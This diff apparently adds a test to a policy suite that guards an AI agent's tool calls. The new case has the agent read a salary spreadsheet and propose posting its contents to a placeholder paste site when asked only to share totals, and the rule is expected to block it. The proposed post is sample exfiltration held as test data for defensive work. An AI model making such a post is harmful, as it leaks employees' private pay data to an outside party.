@@ -44,3 +44,9 @@ test_a_secret_read_that_does_not_flow_to_the_sink_passes if {
 	findings := rule.findings with input as t.input_of("tell bob@partner.test see you at 3", [read_key, mail])
 	t.quiet(findings, "s1")
 }
+
+test_blocks_posting_a_salary_sheet_to_a_paste_site if {
+	sheet := t.executed(0, "read_sheet", {"name": "salaries-2025"}, ["read_only"], "name,salary ...")
+	post := t.proposed(1, "http_post", {"url": "https://paste.example.org/api/new", "body": "name,salary ..."}, ["external_sink", "untrusted_flow"], [t.from_tool("/body", "name,salary ...", 0)])
+	t.fired(rule.findings, "s1", "block") with input as t.input_with_flow("share the totals with Lena", [sheet, post], {"result:0": ["step:1"]})
+}
